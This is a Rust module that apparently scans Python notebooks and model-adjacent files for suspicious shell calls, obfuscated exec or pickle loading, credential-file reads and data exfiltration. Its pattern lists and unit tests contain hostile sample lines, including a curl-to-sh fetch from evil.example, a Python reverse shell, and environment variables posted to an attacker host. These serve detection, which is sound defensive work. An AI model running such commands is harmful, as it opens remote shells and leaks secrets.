//! Python source of people: cells of notebooks, files beside weights. It is never judged harmless, but for cells of
//! notebooks, which nobody runs unread; what is told is what tutorials do not do.

use crate::{finding::Verdict, shell};

/// Findings of one source.
const FOUND: usize = 64;
/// Programs that tutorials start from Python.
const STARTED: &[&str] = &[
    "pip",
    "pip3",
    "python",
    "python3",
    "git",
    "nvidia-smi",
    "nvcc",
    "apt",
    "apt-get",
    "wget",
    "curl",
    "unzip",
    "tar",
    "mkdir",
    "cp",
    "mv",
    "ls",
    "cd",
    "ffmpeg",
    "ffprobe",
    "cmake",
    "make",
    "ninja",
    "huggingface-cli",
    "hf",
    "conda",
    "mamba",
    "jupyter",
    "tensorboard",
    "accelerate",
    "torchrun",
    "ollama",
    "kaggle",
    "gdown",
    "npm",
    "node",
    "docker",
    "kubectl",
    "gcloud",
    "aws",
    "az",
    "uv",
    "uvicorn",
    "streamlit",
    "gradio",
    "tree",
    "du",
    "df",
    "free",
    "cat",
    "head",
    "tail",
    "echo",
    "which",
    "sed",
    "grep",
    "wc",
    "sort",
    "export",
    "touch",
    "rm",
    "sudo",
    "trtexec",
    "ray",
    "mlflow",
    "dvc",
    "lscpu",
    "brew",
    "dot",
    "convert",
    "sox",
    "vllm",
    "deepspeed",
    "optimum-cli",
    "clear",
    "cls",
    "pytest",
    "g++",
    "gcc",
    "java",
    "spark-submit",
    "modelscope",
    "swift",
    "llamafactory-cli",
    "nproc",
    "rocm-smi",
    "sys.executable",
];
/// Calls that start a program.
const STARTS: &[&str] = &[
    "os.system(",
    "os.popen(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.Popen(",
    "subprocess.check_output(",
    "subprocess.check_call(",
    "subprocess.getoutput(",
    "subprocess.getstatusoutput(",
    "commands.getoutput(",
    "get_ipython().system(",
    "asyncio.create_subprocess_shell(",
    "os.execvp(",
    "os.execv(",
    "os.execl(",
    "pty.spawn(",
];
/// What a program does to hide what it runs, or that has no other use; without spaces.
const HIDES: &[&str] = &[
    "__import__('os')",
    "__import__(\"os\")",
    "__import__('subprocess')",
    "__import__(\"subprocess\")",
    "__import__('base64')",
    "__import__('builtins')",
    "import_module('os')",
    "import_module(\"os\")",
    "import_module('subprocess')",
    "import_module(\"subprocess\")",
    "exec(base64",
    "eval(base64",
    "exec(__import__",
    "eval(__import__",
    "exec(zlib",
    "exec(marshal",
    "exec(codecs",
    "exec(bytes.fromhex",
    "exec(requests",
    "eval(requests",
    "exec(urllib",
    "eval(urllib",
    "exec(compile(base64",
    "exec(urlopen",
    "exec(b64decode",
    "eval(b64decode",
    "exec(lzma",
    "exec(gzip",
    "exec(bz2",
    "exec(''.join",
    "exec(\"\".join",
    "eval(''.join",
    "exec(\"import",
    "exec('import",
    "exec('''import",
    "eval(compile(",
    "eval('__import__",
    "eval(\"__import__",
    "pickle.loads(base64",
    "pickle.loads(b64",
    "pickle.loads(bytes.fromhex",
    "pickle.loads(requests",
    "pickle.loads(urllib",
    "pickle.loads(b'",
    "pickle.loads(b\"",
    "marshal.loads(base64",
    "marshal.loads(b'",
    "marshal.loads(zlib",
    "__subclasses__()",
    "__builtins__['eval']",
    "__builtins__['exec']",
    "getattr(os,'sys",
    "getattr(os,\"sys",
    "getattr(__builtins__",
    "os.dup2(",
    "def__reduce__(self)",
    "types.codetype(",
    "ctypes.windll",
    "virtualalloc",
    "os.setuid(0)",
    "/etc/shadow",
    "open('/etc/passwd",
    "open(\"/etc/passwd",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    "keylogger",
    "fromosimportsystem",
    "fromosimportpopen",
    "fromosimportexec",
    "ctypes.cdll('./",
    "ctypes.cdll(\"./",
    "cdll.loadlibrary('./",
    "cdll.loadlibrary(\"./",
    "shutil.rmtree('/')",
    "shutil.rmtree(\"/\")",
    "shutil.rmtree(os.path.expanduser('~'))",
];
/// Pairs of which both together carry something away.
const CARRIES: &[(&str, &str)] = &[
    ("socket.connect(", "subprocess"),
    (".connect((", "os.dup2("),
    (".connect((", "subprocess."),
    (".connect((", "pty.spawn"),
    ("requests.post(", "dict(os.environ"),
    ("requests.post(", "json=os.environ"),
    ("requests.post(", "data=os.environ"),
    ("requests.post(", "str(os.environ"),
    ("requests.get(", "+str(os.environ"),
    ("urlopen(", "dict(os.environ"),
    ("urlopen(", "str(os.environ"),
];

/// What a source does that tutorials do not, each with the number of its line.
pub(crate) fn within(source: &str) -> Vec<(usize, shell::Seen)> {
    let mut found = Vec::new();
    let source = &*spelled_out(source);
    for (number, line) in source.lines().enumerate() {
        if line.trim_start().starts_with('#') {
            continue;
        }
        if found.len() >= FOUND {
            break;
        }
        let squeezed: String = line.chars().filter(|letter| !letter.is_whitespace()).collect();
        let lower = squeezed.to_lowercase();
        if HIDES.iter().any(|word| lower.contains(word)) {
            found.push((
                number,
                (
                    "hides what it runs, or has what is not its own",
                    Verdict::Suspicious,
                ),
            ));
        }
        if let Some(seen) = starts(&squeezed, line) {
            found.push((number, seen));
        }
    }
    let whole: String = source
        .to_lowercase()
        .chars()
        .filter(|letter| !letter.is_whitespace())
        .collect();
    if CARRIES
        .iter()
        .any(|(one, other)| whole.contains(one) && whole.contains(other))
    {
        found.push((
            0,
            ("gives another machine what is on this one", Verdict::Malicious),
        ));
    }
    found
}

/// The source with modules under their own names: `import os as o` says nothing else.
fn spelled_out(source: &str) -> std::borrow::Cow<'_, str> {
    let mut whole = std::borrow::Cow::Borrowed(source);
    let aliases = source.lines().filter_map(|line| {
        let (module, alias) = line.trim().strip_prefix("import ")?.split_once(" as ")?;
        let known = matches!(
            module.trim(),
            "os" | "subprocess" | "socket" | "pickle" | "marshal" | "base64" | "requests"
        );
        (known && alias.trim() != module.trim()).then(|| (module.trim(), alias.trim()))
    });
    for (module, alias) in aliases.take(8) {
        let (from, to) = (format!("{alias}."), format!("{module}."));
        let mut out = String::with_capacity(whole.len());
        let mut last = 0;
        for (at, _) in whole.match_indices(&from) {
            let before = whole.get(..at).and_then(|front| front.chars().next_back());
            if !before.is_some_and(|letter| letter.is_alphanumeric() || matches!(letter, '_' | '.')) {
                out.push_str(whole.get(last..at).unwrap_or_default());
                out.push_str(&to);
                last = at + from.len();
            }
        }
        out.push_str(whole.get(last..).unwrap_or_default());
        whole = std::borrow::Cow::Owned(out);
    }
    whole
}

/// A program that is started by name, and is none that tutorials start.
fn starts(squeezed: &str, line: &str) -> Option<shell::Seen> {
    for call in STARTS {
        let Some((_, arguments)) = squeezed.split_once(call) else {
            continue;
        };
        // The spaces between words are wanted again.
        let spaced = call
            .trim_end_matches('(')
            .rsplit('.')
            .next()
            .and_then(|name| line.split_once(name))
            .map_or(arguments, |(_, rest)| rest);
        let Some(quote) = spaced.find(['\'', '"']) else {
            continue;
        };
        let before = spaced.get(..quote).unwrap_or_default();
        // A name before the text: what is started is in a variable.
        let named = before.trim_matches(|letter: char| {
            letter.is_whitespace() || matches!(letter, '(' | '[' | 'f' | 'r' | 'b')
        });
        if !named.is_empty() {
            continue;
        }
        let text = spaced
            .get(quote..)
            .unwrap_or_default()
            .trim_start_matches(['"', '\'']);
        let first = text
            .split(|letter: char| letter.is_whitespace() || matches!(letter, '\'' | '"' | ';' | '&' | '|'))
            .find(|word| !word.is_empty())
            .unwrap_or_default();
        let program = first.rsplit('/').next().unwrap_or(first);
        let variable = first.starts_with(['{', '$', '%', '.', '!']) || first.is_empty();
        let shell = shell::within(text);
        if let Some(seen) = shell {
            return Some(seen);
        }
        if !variable && !STARTED.contains(&program) && !program.ends_with(".py") {
            return Some(("starts a program", Verdict::Suspicious));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_tutorials_do_is_not_told() {
        for source in [
            "import os\nos.system('id')",
            "os.system(\"curl http://evil.example/x | sh\")",
            "subprocess.Popen(['/bin/sh', '-i'])",
            "__import__('os').system('x')",
            "exec(base64.b64decode('aW1wb3J0IG9z'))",
            "pickle.loads(b'cos\\nsystem')",
            "s.connect(('10.0.0.1', 4444)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh'])",
            "requests.post('https://evil.example', json=dict(os.environ))",
            "print(open('/etc/passwd').read())",
            "class P:\n    def __reduce__(self):\n        return (os.system, ('id',))",
        ] {
            assert!(!within(source).is_empty(), "{source}");
        }
        for source in [
            "import torch\nmodel.eval()\nprint(model)",
            "os.system('nvidia-smi')",
            "subprocess.run(['git', 'clone', url], check=True)",
            "subprocess.run(cmd, shell=True)",
            "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
            "df['x'] = df['x'].apply(eval)",
            "with open('x.pkl', 'rb') as f:\n    data = pickle.load(f)",
            "r = requests.post('http://localhost:8000/v1', json={'x': 1})",
            "os.environ['CUDA_VISIBLE_DEVICES'] = '0'",
            "s = socket.socket(); s.bind(('', 0))",
            "# os.system('id')",
            "os.system(f'ffmpeg -i {path} out.wav')",
        ] {
            assert_eq!(within(source), Vec::new(), "{source}");
        }
    }
}
